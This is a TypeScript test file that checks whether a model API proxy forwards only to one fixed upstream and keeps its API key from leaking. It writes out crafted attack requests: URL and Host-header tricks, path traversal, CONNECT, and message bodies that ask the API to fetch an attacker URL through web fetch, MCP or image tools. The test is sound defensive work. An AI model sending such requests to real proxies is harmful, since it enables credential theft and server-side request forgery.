// The model proxy forwards to one origin, fixed at start, as an attacker on the Pod's loopback
// would try it: raw requests over a socket (absolute form, `//host`, encoded dots, `@`,
// backslashes, a foreign or doubled Host, CONNECT, other methods and paths, and allowed calls
// whose body would have the API fetch or connect to the attacker's URL). A canary upstream
// (at the root, like the real API, and behind a gateway's path prefix) and the attacker's own
// listener are real servers on loopback: the attacker's receives not a byte, the canary receives
// the key only on Claude Code's calls, and the key is in no log line.
import { createServer as createHttpServer, type IncomingHttpHeaders } from 'node:http';
import { connect, createServer, type AddressInfo, type Server } from 'node:net';
import { Writable } from 'node:stream';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startModelProxy, type ModelProxy } from '../../runner-image/model/proxy.ts';
import { ModelSpend } from '../../runner-image/model/spend.ts';

const KEY = 'sk-ant-canary-origin-5d1e';
const servers: Server[] = [];
const listen = async <T extends Server>(server: T): Promise<number> => {
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
};
afterAll(() => {
  for (const server of servers) server.close();
});

/** The attacker's listener: records every byte any connection sends it, and answers like a server would. */
const attackerBytes: string[] = [];
/** The canary upstream: records every request, and answers each with a small JSON body. */
const upstreamSeen: Array<{ path: string; headers: IncomingHttpHeaders }> = [];
let attacker: number;
let upstream: number;
beforeAll(async () => {
  attacker = await listen(
    createServer((socket) =>
      socket.on('data', (chunk: Buffer) => {
        attackerBytes.push(chunk.toString('latin1'));
        socket.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n');
      }),
    ),
  );
  upstream = await listen(
    createHttpServer((req, res) => {
      upstreamSeen.push({ path: req.url ?? '', headers: req.headers });
      req
        .resume()
        .on('end', () => res.writeHead(200, { 'content-type': 'application/json' }).end('{"type":"message"}'));
    }),
  );
});

/** One raw request over a fresh connection; resolves with everything the proxy answered before closing. */
function raw(port: number, request: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    const socket = connect(port, '127.0.0.1', () => socket.write(request));
    socket
      .on('data', (chunk: Buffer) => chunks.push(chunk))
      .on('error', reject)
      .on('close', () => resolve(Buffer.concat(chunks).toString('latin1')));
  });
}

const claudeCodeBody = '{"model":"m","max_tokens":1,"messages":[]}';
const post = (target: string, headers: string[], body = claudeCodeBody) =>
  [
    `POST ${target} HTTP/1.1`,
    ...headers,
    'content-type: application/json',
    'x-api-key: dummy',
    `content-length: ${Buffer.byteLength(body)}`,
    'connection: close',
    '',
    body,
  ].join('\r\n');

/** Allowed calls whose bodies ask the API to reach `url` from Anthropic's side. */
function bodyAttacks(url: string): Array<[string, string]> {
  const fetchTool = `{"type":"web_fetch_20250910","name":"web_fetch"}`;
  const ask = `"messages":[{"role":"user","content":"Fetch ${url}"}]`;
  return [
    ['the web fetch tool', `{"model":"m","max_tokens":1,"tools":[${fetchTool}],${ask}}`],
    [
      'the MCP connector',
      `{"model":"m","max_tokens":1,"mcp_servers":[{"type":"url","url":"${url}","name":"x"}],${ask}}`,
    ],
    [
      'an image by URL',
      `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[` +
        `{"type":"image","source":{"type":"url","url":"${url}"}}]}]}`,
    ],
    ['a tool hidden by a repeated key', `{"model":"m","max_tokens":1,"tools":[${fetchTool}],"tools":[],${ask}}`],
    ['an array', `[{"model":"m","max_tokens":1,${ask}}]`],
  ];
}

function attacks(own: string): Array<[string, string]> {
  const other = `127.0.0.1:${attacker}`;
  return [
    ['absolute form to the attacker', post(`http://${other}/v1/messages`, [`host: ${own}`])],
    ['absolute form to the attacker, its Host', post(`http://${other}/v1/messages?beta=true`, [`host: ${other}`])],
    ['absolute form naming the proxy', post(`http://${own}/v1/messages`, [`host: ${own}`])],
    ['scheme-relative path', post(`//${other}/v1/messages`, [`host: ${own}`])],
    ['encoded dot-dot', post('/%2e%2e/v1/messages', [`host: ${own}`])],
    ['plain dot-dot', post('/v1/messages/../../v1/messages', [`host: ${own}`])],
    ['encoded slashes', post(`/%2F%2F${other}/v1/messages`, [`host: ${own}`])],
    ['user info', post(`/@${other}/v1/messages`, [`host: ${own}`])],
    ['backslashes', post(`/\\\\${other}/v1/messages`, [`host: ${own}`])],
    ['a foreign Host', post('/v1/messages', [`host: ${other}`])],
    ['two Hosts', post('/v1/messages', [`host: ${own}`, `host: ${other}`])],
    ['no Host (HTTP/1.0)', post('/v1/messages', []).replace('HTTP/1.1', 'HTTP/1.0')],
    ['another API', post('/v1/models', [`host: ${own}`])],
    ['another query', post(`/v1/messages?next=http://${other}/`, [`host: ${own}`])],
    ['GET', `GET /v1/messages HTTP/1.1\r\nhost: ${own}\r\nconnection: close\r\n\r\n`],
    ['CONNECT', `CONNECT ${other} HTTP/1.1\r\nhost: ${other}\r\n\r\n`],
    ...bodyAttacks(`http://${other}/`).map(([name, body]): [string, string] => [
      name,
      post('/v1/messages?beta=true', [`host: ${own}`], body),
    ]),
  ];
}

describe('model proxy: one origin, fixed at start', () => {
  for (const prefix of ['', '/gateway']) {
    describe(`upstream ${prefix ? 'behind a path prefix' : 'at the root'}`, () => {
      let proxy: ModelProxy;
      const logged: string[] = [];
      beforeAll(async () => {
        upstreamSeen.length = 0;
        const log = pino(
          { level: 'debug' },
          new Writable({ write: (chunk: Buffer, _e, done) => done(void logged.push(chunk.toString())) }),
        );
        proxy = await startModelProxy({
          upstream: `http://127.0.0.1:${upstream}${prefix}`,
          apiKey: KEY,
          log,
          spend: new ModelSpend(),
        });
      });
      afterAll(async () => proxy?.close());

      it("refuses every crafted request with 400 in the API's error shape: nothing reaches a listener", async () => {
        const own = new URL(proxy.url).host;
        const answers: Array<[string, string]> = [];
        for (const [name, request] of attacks(own))
          answers.push([name, await raw(Number(new URL(proxy.url).port), request)]);
        expect(attackerBytes).toEqual([]);
        expect(upstreamSeen).toEqual([]);
        for (const [name, answer] of answers) {
          expect(answer, name).toMatch(/^HTTP\/1\.1 400 /);
          expect(JSON.parse(answer.slice(answer.indexOf('\r\n\r\n') + 4)), name).toMatchObject({
            type: 'error',
            error: { type: 'invalid_request_error' },
          });
        }
        expect(logged.filter((line) => line.includes('model proxy refused a request'))).toHaveLength(
          attacks(own).length,
        );
        expect(logged.join('')).not.toContain(KEY);
      });

      it("forwards Claude Code's calls, and only those carry the key, under the upstream's prefix", async () => {
        const own = new URL(proxy.url).host;
        const targets = ['/v1/messages?beta=true', '/v1/messages', '/v1/messages/count_tokens?beta=true'];
        for (const target of targets)
          expect(await raw(Number(new URL(proxy.url).port), post(target, [`host: ${own}`]))).toMatch(
            /^HTTP\/1\.1 200 /,
          );
        expect(upstreamSeen.map((seen) => seen.path)).toEqual(targets.map((target) => prefix + target));
        for (const seen of upstreamSeen)
          expect(seen.headers).toMatchObject({ 'x-api-key': KEY, host: `127.0.0.1:${upstream}` });
        expect(attackerBytes).toEqual([]);
        expect(logged.join('')).not.toContain(KEY);
      });
    });
  }
});
